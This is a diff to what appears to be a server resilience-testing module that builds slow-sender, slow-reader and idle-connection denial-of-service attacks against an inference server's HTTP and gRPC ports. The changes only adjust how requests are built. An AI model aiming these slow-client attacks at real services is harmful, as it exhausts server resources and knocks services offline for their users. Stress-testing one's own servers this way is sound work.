@@ -28,13 +28,12 @@ _INITIAL_WINDOW_SIZE = b"\0\4"
 def slow_senders(victim: Victim) -> Attack:
     """Heads, bodies and gRPC's greeting byte by byte; vast bodies up to their last bytes."""
     whole = victim.infer(10_000_000)
-    chunked = victim.head("/", headers={"Transfer-Encoding": "chunked"}).replace(b"GET", b"POST", 1)
     held = victim.infer(_HELD_BYTES) + b" " * (_HELD_BYTES - 1000)
     ways = itertools.cycle(
         [
             (victim.http_port, b"", whole),
             (victim.http_port, whole, b'{"inputs": '),
-            (victim.http_port, chunked, b"1\r\n[\r\n"),
+            (victim.http_port, victim.infer(None), b"1\r\n[\r\n"),
             (victim.http_port, held, b" "),
             (victim.grpc_port, b"", PREFACE),
         ]
@@ -61,7 +60,7 @@ def slow_senders(victim: Victim) -> Attack:
 
 def slow_readers(victim: Victim) -> Attack:
     """Many requests at once on one connection, whose answers are read a few bytes at a time."""
-    metadata, metrics = (victim.head(p) for p in (f"/v2/models/{victim.model}", "/metrics"))
+    metadata, metrics = (victim.get(p) for p in (f"/v2/models/{victim.model}", "/metrics"))
     calls = b"".join(
         call(2 * number + 1, b"/inference.GRPCInferenceService/ServerMetadata")
         for number in range(_AHEAD)
@@ -91,7 +90,7 @@ def idle(victim: Victim) -> Attack:
     ways = itertools.cycle(
         [
             (victim.http_port, b""),
-            (victim.http_port, victim.head("/v2/health/live")),
+            (victim.http_port, victim.get("/v2/health/live")),
             (victim.grpc_port, b""),
             (victim.grpc_port, PREFACE + frame(SETTINGS, 0, 0, b"")),
         ]
